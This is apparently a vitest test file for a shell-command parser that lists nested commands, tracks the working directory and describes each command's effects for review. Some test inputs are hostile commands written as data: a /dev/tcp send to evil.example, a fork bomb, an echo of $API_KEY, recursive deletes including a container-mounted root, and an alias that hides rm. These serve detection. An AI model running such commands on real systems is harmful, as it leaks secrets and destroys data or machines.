// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { describeEffect } from "../../contract/describe.ts";
import type { ShellReading } from "../../contract/reading.ts";
import type { SimpleCommand } from "../../contract/simple.ts";
import { diskWorld } from "../../machine/index.ts";
import { explain, readShell, renderExplanation, simpleCommands } from "./index.ts";

const world = diskWorld({ home: "/home/me", path: "/usr/bin:/bin" });
const read = (command: string): ShellReading =>
  readShell(command, { cwd: "/repo", projectRoot: "/repo", world, written: new Set() });

/** `depth name words…`, unknown words as `?known beginning`, without what only moves the shell. */
const show = ({ depth, words, name, cwd }: SimpleCommand): string => {
  const said = words.slice(1).map(({ value, prefix }) => value ?? `?${prefix}`);
  const place = cwd === "/repo" ? "" : ` @${cwd ?? "?"}`;
  return `${depth} ${[name ?? "?", ...said].join(" ")}${place}`;
};
const list = (command: string): readonly string[] =>
  simpleCommands(read(command), "linux")
    .filter(({ words, name }) => words.length > 0 && name !== "cd")
    .map(show);

const says = (command: string): readonly string[] => read(command).effects.map((effect) => describeEffect(effect));

describe("simple commands, at any depth", () => {
  test.each<readonly [string, readonly string[]]>([
    ["git push", ["0 git push"]],
    ["/usr/bin/git push; ./x/git push", ["0 git push", "0 git push"]],
    ["a && b || c; d | e & f", ["0 a", "0 b", "0 c", "0 d", "0 e", "0 f"]],
    ["! a; time b; { c; }; (d)", ["0 a", "0 b", "0 c", "0 d"]],
    ["if a; then b; elif c; then d; else e; fi", ["0 a", "0 b", "0 c", "0 d", "0 e"]],
    [
      "case x in a) b;; *) c;; esac; while d; do e; done; until f; do g; done",
      ["0 b", "0 c", "0 d", "0 e", "0 f", "0 g"],
    ],
    ["echo $(a `b`) <(c) >(d)", ["2 b", "1 a ?", "1 c", "1 d", "0 echo ? /dev/fd/63 /dev/fd/63"]],
    ["x=$(a) y=`b` c", ["1 a", "1 b", "0 c"]],
    [
      "[[ $(a) = b ]]; ((x = $(b))); : ${x:-$(c)}; echo $((1 + $(d)))",
      ["1 a", "1 b", "1 c", "0 : ?", "1 d", "0 echo ?"],
    ],
    ["a <<E\n$(b)\nE", ["1 b", "0 a"]],
    ["a > $(b) <<< $(c)", ["1 b", "1 c", "0 a"]],
    ["f() { a $1 \"$@\"; }; f x 'y z'", ["0 f x y z", "1 a x x y z"]],
    ["f() { g; }; g() { a; }; f", ["0 f", "1 g", "2 a"]],
    ["f() { a $1; }", ["1 a ?"]],
    ["f() { f; a; }; f", ["0 f", "1 f", "1 a"]],
    ["sh -c 'a; bash -c \"b c\"'", ['0 sh -c a; bash -c "b c"', "1 a", "1 bash -c b c", "2 b c"]],
    ["bash -c 'a $1' x y", ["0 bash -c a $1 x y", "1 a y"]],
    ["eval 'a b' && eval c d", ["0 eval a b", "1 a b", "0 eval c d", "1 c d"]],
    ["echo 'a b' | sh; bash <<< 'c'; sh <<E\nd\nE", ["0 echo a b", "0 sh", "1 a b", "0 bash", "1 c", "0 sh", "1 d"]],
    ["trap 'a' EXIT", ["0 trap a EXIT", "1 a"]],
    ["find . -exec a {} \\; -execdir b +", ["0 find . -exec a {} ; -execdir b +", "1 a ?.", "1 b +"]],
    ["ls | xargs -n1 a b", ["0 ls", "0 a b ?"]],
    ["echo x y | xargs a", ["0 echo x y", "0 a x y"]],
    ["find src | xargs -I{} a {} b", ["0 find src", "0 a ?src b"]],
    ["sudo -u x env A=1 timeout 5 nice nohup a b", ["0 a b"]],
    ["sudo --odd a b", ["0 a b"]],
    ["command a; exec b; builtin eval c; \\d; 'e'f", ["0 a", "0 b", "0 eval c", "1 c", "0 d", "0 ef"]],
    ["docker run x a b; ssh host a b", ["0 docker run x a b", "1 a b @?", "0 ssh host a b", "1 a b"]],
    ['$X a; "$Y" b', ["0 ? a", "0 ? b"]],
    ["coproc a; select x in b; do c; done", ["0 a", "0 c"]],
    ["a \\\n  b # c\nd", ["0 a b", "0 d"]],
    ["", []],
    ["# a", []],
  ])("%s", (command, expected) => {
    expect(list(command)).toEqual(expected);
  });
});

describe("words", () => {
  test.each<readonly [string, readonly string[]]>([
    ["a 'b c' \"d e\" f\\ g $'h\\ti' \"\"", ["0 a b c d e f g h\ti "]],
    ["a ~ ~/x \"$HOME\" ${HOME}/y '~' ~b", ["0 a /home/me /home/me/x /home/me /home/me/y ~ ?"]],
    ["a $PWD; cd src; a $PWD $OLDPWD", ["0 a /repo", "0 a /repo/src /repo @/repo/src"]],
    ["x=b; a $x \"$x\" ${x}c '$x'", ["0 a b b bc $x"]],
    ["x='b c'; a $x \"$x\"", ["0 a b c b c"]],
    ["x=b y=$x; a $y", ["0 a b"]],
    ["x=b; x+=c; a $x; x=$(d); a $x", ["0 a bc", "1 d", "0 a ?"]],
    ["x=b a $x", ["0 a ?"]],
    [
      "export x=b; a $x; local y=c; a $y; declare -r z=d; a $z",
      ["0 export x=b", "0 a b", "0 local y=c", "0 a c", "0 declare -r z=d", "0 a d"],
    ],
    ["x=(b 'c d'); a \"${x[@]}\" ${x[0]} $x", ["0 a b c d b b"]],
    ['set -- b c; a "$@" $2 $3; shift; a $1', ["0 set -- b c", "0 a b c c", "0 shift", "0 a c"]],
    ["if d; then x=b; else x=c; fi; a $x", ["0 d", "0 a ?"]],
    ["if d; then x=b; fi; a $x", ["0 d", "0 a ?"]],
    ["f() { local x=c; a $x; }; x=b; f; a $x", ["0 f", "1 local x=c", "1 a c", "0 a b"]],
    ["x=b; (x=c); a $x; d | x=e; a $x", ["0 a b", "0 d", "0 a b"]],
    ["x=b; read x; a $x; y=c; unset y; a $y", ["0 read x", "0 a ?", "0 unset y", "0 a ?"]],
    ["for x in b c; do a $x; done; a $x", ["0 a b", "0 a c", "0 a c"]],
    ["for x in *.ts $Y; do a $x; done", ["0 a *.ts", "0 a ?"]],
    ["for x in 1 2 3 4 5 6 7 8 9; do a $x; done", ["0 a ?"]],
    ["a {b,c}d x{1..9} {e,{f,g}}", ["0 a bd cd x* *"]],
    ["a src/$X/b --k=$Y $Z", ["0 a ?src/ ?--k= ?"]],
    ['a *.ts "*" \\* b?c [d]', ["0 a *.ts * * b?c [d]"]],
    ["a \"$(echo b)\" $(printf '%s' c) $(cat <<'E'\nd\nE\n)", ["1 echo b", "1 printf %s c", "1 cat", "0 a b c d"]],
    ["x=b; a ${x:-c} ${#x} ${x%b} ${x/b/c} ${!x}", ["0 a b ? ? ? ?"]],
  ])("%s", (command, expected) => {
    expect(list(command)).toEqual(expected);
  });
});

describe("where the shell stands", () => {
  test.each<readonly [string, readonly string[]]>([
    ["cd src; a", ["0 a @/repo/src"]],
    ["cd src && cd .. && a", ["0 a"]],
    ["cd src && cd - && a", ["0 a"]],
    ["cd; a; cd /x/y/..; b", ["0 a @/home/me", "0 b @/x"]],
    ["(cd src && a); b", ["0 a @/repo/src", "0 b"]],
    ["cd src | a; cd src & b", ["0 a", "0 b"]],
    ["cd src || exit 1; a", ["0 exit 1", "0 a @/repo/src"]],
    ["cd x || { b; exit 1; }; a", ["0 b", "0 exit 1", "0 a @/repo/x"]],
    ["cd x || cd y; a", ["0 a @?"]],
    ["if cd x; then a; fi; b", ["0 a @/repo/x", "0 b @/repo/x"]],
    ["if d; then cd x; fi; a", ["0 d", "0 a @?"]],
    ["if d; then cd x; return; fi; a", ["0 d", "0 return @/repo/x", "0 a"]],
    ['cd "$X" && a; cd /y; b', ["0 a @?", "0 b @/y"]],
    ["pushd x; a; popd; b", ["0 pushd x", "0 a @/repo/x", "0 popd @/repo/x", "0 b"]],
    ["f() { cd x; }; f; a", ["0 f", "0 a @/repo/x"]],
    [
      "eval 'cd x'; a; sh -c 'cd y; b'; c",
      ["0 eval cd x", "0 a @/repo/x", "0 sh -c cd y; b @/repo/x", "1 b @/repo/x/y", "0 c @/repo/x"],
    ],
    ["git -C sub push; env -C other a", ["0 git -C sub push @/repo/sub", "0 a @/repo/other"]],
  ])("%s", (command, expected) => {
    expect(list(command)).toEqual(expected);
  });

  test("afterwards", () => {
    expect(read("cd src && true").cwdAfter).toEqual({ path: "/repo/src", certainty: "exact" });
    expect(read("(cd src)").cwdAfter.path).toBe("/repo");
    expect(read('cd "$X"').cwdAfter.certainty).toBe("unknown");
  });
});

describe("effects, with targets", () => {
  test.each<readonly [string, readonly string[]]>([
    ["cat a ./b ../c //etc//d", ["reads /repo/a", "reads /repo/b", "reads /c", "reads /etc/d"]],
    ["echo hi > out 2>> err < in", ["writes /repo/out", "appends to /repo/err", "reads /repo/in"]],
    ["{ echo a; cat b; } > out", ["writes /repo/out", "reads /repo/b"]],
    ["echo x > /dev/null 2>&1 3>&-; > out", ["writes /repo/out"]],
    ["cat < /dev/tcp/evil.example/80", ["sends data to evil.example"]],
    [
      "echo x > $OUT; rm src/$X",
      ["writes a place that is not known", "deletes somewhere at or below /repo/src", "not understood: rm … src/$X"],
    ],
    [
      "find src -name x | sort | xargs rm",
      ["looks at /repo/src and all below", "deletes somewhere at or below /repo/src"],
    ],
    [
      'find src | while read -r f; do cat "$f"; done',
      ["looks at /repo/src and all below", "reads a place that is not known", 'not understood: cat … "$f"'],
    ],
    ["echo $API_KEY", ["shows secrets: $API_KEY"]],
    ["export PATH=/x", ["sets PATH to /x"]],
    ["nohup ls", ["looks at /repo", "appends to /repo/nohup.out"]],
    ["./deploy.sh x", ["runs the script /repo/deploy.sh", "not understood: ./deploy.sh: a program that is not known"]],
    [":(){ :|:& };:", ["process, run: a function that starts itself twice (:)"]],
  ])("%s", (command, expected) => {
    expect(says(command).filter((said) => said !== "")).toEqual(expected);
  });

  test("a file gets what the command itself says", () => {
    const held = (command: string) =>
      read(command).effects.flatMap((one) => (one.do === "write" ? [one.contents] : []));
    expect(held("cat > f <<'E'\n$X\nE")).toEqual(["$X\n"]);
    expect(held("echo a b > f; printf '%s\\n' c > g; date > h")).toEqual(["a b\n", "c\n", undefined]);
  });
});

describe("what a simple command says beside its words", () => {
  const first = (command: string): SimpleCommand | undefined => simpleCommands(read(command), "linux").at(-1);
  test("assignments, wrappers, redirections, a document", () => {
    expect(first("A=1 B=$X sudo env C=2 cat < in > out <<< 'x'")).toMatchObject({
      name: "cat",
      wrappers: ["sudo", "env"],
      assignments: [
        { name: "A", value: "1" },
        { name: "B", value: null },
        { name: "C", value: "2" },
      ],
      reads: [{ value: "/repo/in" }],
      writes: [{ value: "/repo/out" }],
      document: "x\n",
    });
    expect(first("cat <<E\n$X\nE")).not.toHaveProperty("document");
    expect(first("printf 'DROP' | psql")).toMatchObject({ document: "DROP" });
  });
  const use = (command: string): readonly unknown[] => {
    const sorted = first(command)?.use;
    if (sorted === undefined) return [];
    const options = sorted.options.map(
      ({ names, value }) => `${names.join("|")}${value === null ? "" : `=${value.value}`}`,
    );
    return [
      sorted.path.join(" "),
      options.join(" "),
      ...sorted.operands.map(({ word, role }) => `${word.text}:${role}`),
    ];
  };
  test.each<readonly [string, readonly string[]]>([
    ["git push -f origin main", ["push", "-f|--force", "origin:unknown", "main:unknown"]],
    ["git -C x push --force", ["push", "-C|--config-env=x --force|-f"]],
    ["rm -rf a 'b c' $X", ["", "-r|--recursive|-R -f|--force", "a:delete", "'b c':delete", "$X:unknown"]],
    ["cp a b", ["", "", "a:read", "b:write"]],
    ["mv a /x/b", ["", "", "a:move", "/x/b:write"]],
    ["cat a", ["", "", "a:read"]],
    ["grep -r x src", ["", "-r|--recursive", "x:pattern", "src:search"]],
    ["curl https://a.example/x", ["", "", "https://a.example/x:host"]],
    ["npm run build", ["run", "", "build:unknown"]],
    ["nobody-knows x", []],
    ["./git push", ["push", ""]],
    ["git add a", ["add", "", "a:stage"]],
    ["git reset HEAD a/b", ["reset", "", "HEAD:revision", "a/b:revision"]],
    ["git reset other a/b", ["reset", "", "other:unknown", "a/b:unknown"]],
    ["git switch docs/x", ["switch", "", "docs/x:revision"]],
    ["git grep x main -- a", ["grep", "", "x:pattern", "main:search", "a:search"]],
    ["bash -c '' b", ["", "-c", "'':code", "b:unknown"]],
  ])("%s", (command, expected) => {
    expect(use(command)).toEqual(expected);
  });
});

test.each([
  ["docker run --rm alpine sh -c 'rm a; echo $(b)'", ["sh", "rm", "b", "echo"]],
  ["kubectl exec p -- rm a", ["rm"]],
  ["docker run alpine $(a); b", []],
  ["docker run -v /:/host alpine rm -rf /host", []],
])("in a container: %s", (command, away) =>
  expect(
    simpleCommands(read(command), "linux")
      .filter((one) => one.away === true)
      .map(({ name }) => name),
  ).toEqual(away),
);

describe("what feeds what", () => {
  const fed = (command: string): readonly unknown[] =>
    read(command).commands.map(({ name, fedBy }) => [name, fedBy ?? []]);
  test.each<readonly [string, readonly unknown[]]>([
    [
      "a | b | c",
      [
        ["a", []],
        ["b", [[0, 1]]],
        ["c", [[1, 2]]],
      ],
    ],
    [
      "b $(a)",
      [
        ["a", []],
        ["b", [[0, 1]]],
      ],
    ],
    [
      "x=$(a); b $x",
      [
        ["a", []],
        ["b", [[0, 1]]],
      ],
    ],
    [
      "(a; b) | c",
      [
        ["a", []],
        ["b", []],
        ["c", [[0, 2]]],
      ],
    ],
    [
      "a | while read x; do b $x; done",
      [
        ["a", []],
        ["read", [[0, 1]]],
        ["b", [[0, 1]]],
      ],
    ],
    [
      "for x in $(a); do b $x; done",
      [
        ["a", []],
        ["b", [[0, 1]]],
      ],
    ],
    [
      "{ a; } > f",
      [
        [null, [[1, 2]]],
        ["a", [[0, 1]]],
      ],
    ],
  ])("%s", (command, expected) => {
    expect(fed(command)).toEqual(expected);
  });
});

describe("opaque, and still read", () => {
  test.each<readonly [string, string | undefined, boolean]>([
    ["$X; git push", "a command whose name is not known", false],
    ['eval "$X"; git push', "eval of text that is not known", false],
    ["echo 'a; git push", "it does not parse", false],
    ["cat <<E; git push\nx", "a here-document without its end", false],
    ["alias ls='rm x'; git push", "an alias changes how later text is read", false],
    ["git push", undefined, false],
    [`git push; : ${"x".repeat(140_000)}`, "longer than 131072 characters", true],
    [`git push; ${"$(".repeat(100)}a${")".repeat(100)}`, "nested deeper than 80", true],
    [`git push; ${"a;".repeat(500)}`, "more commands than are read", true],
    [`git push; ${"eval ".repeat(9)}a`, "commands nested too deep", true],
    [`git push; ${'f() { eval "$1"; }; '}${"f f ".repeat(3)}`, undefined, false],
    [
      `git push; for a in 1 2 3; do for b in 1 2 3; do ${"c;".repeat(200)} done; done`,
      "more commands than are read",
      true,
    ],
  ])("%.60s", (command, why, cut) => {
    const { opaque, commands } = read(command);
    expect(opaque[0]?.why).toBe(why);
    expect(opaque.some((one) => one.cut === true)).toBe(cut);
    const isFound = commands.some(({ name, words }) => name === "git" && words[1]?.value === "push");
    if (!cut || why?.startsWith("commands") === true || why?.startsWith("more commands") === true)
      expect(isFound || /parse|end$/.test(why ?? "")).toBe(true);
  });

  test("what stays in a shell that keeps state", () => {
    expect(read("PATH=/x; f() { :; }; alias a=b").leaves).toEqual({
      pathChanged: true,
      functions: new Set(["f"]),
      aliases: new Set(["a"]),
    });
    expect(read("ls").leaves).toEqual({ pathChanged: false, functions: new Set(), aliases: new Set() });
    expect(read("a & b").background).toBe(true);
  });
});

describe("never throws, never hangs", () => {
  const PIECES = "$ ( ) { } [ ] ' \" ` \\ ; & | < > = * ! # a if fi do done case esac $(( ${ <<E é".split(" ");
  test("any text at all", () => {
    const piece = fc.constantFrom(...PIECES, "\n", " ", "ls ", "cat ", "f() ", "for x in ", "\u2028", "\0", "\r");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const reading = read(pieces.join(""));
        const text = renderExplanation(explain(reading));
        return simpleCommands(reading, "linux").length >= 0 && text.split("\n").every((line) => [...line].length <= 80);
      }),
      { numRuns: 400 },
    );
  });

  test.each([
    ["braces", "a ".concat("{b,c}".repeat(40))],
    [
      "functions that call on",
      `${Array.from({ length: 30 }, (_, i) => `f${i}() { f${i + 1}; f${i + 1}; };`).join("")} f0`,
    ],
    ["evals", "eval ".repeat(2000)],
    ["words", "a ".repeat(60_000)],
    ["variables that double", `x=aaaaaaaa; ${"x=$x$x; ".repeat(200)} a $x`],
    ["loops", `${"for i in 1 2 3 4 5 6 7 8; do ".repeat(30)}a${"; done".repeat(30)}`],
    ["openers", "$[{(".repeat(8_000)],
    ["backticks", "`".repeat(5_001)],
    ["documents", "cat <<E\n$(cat <<E\n".repeat(500)],
  ])("%s", (_, command) => {
    const { opaque, commands } = read(command);
    expect(opaque.length + commands.length).toBeGreaterThan(0);
  });
});

test("an explanation is a tree that fits a terminal", () => {
  const reading = read("cd src && bash -c 'rm -rf build; ls' && cat a.txt > \"$OUT\"");
  expect(renderExplanation(explain(reading))).toBe(
    [
      "├─ cd src",
      "├─ bash -c 'rm -rf build; ls'",
      "│  ├─ rm -rf build",
      "│  │    ● deletes /repo/src/build and all below",
      "│  └─ ls",
      "│       · looks at /repo/src",
      '└─ cat a.txt > "$OUT"',
      "     · reads /repo/src/a.txt",
      "     ● writes a place that is not known",
    ].join("\n"),
  );
});
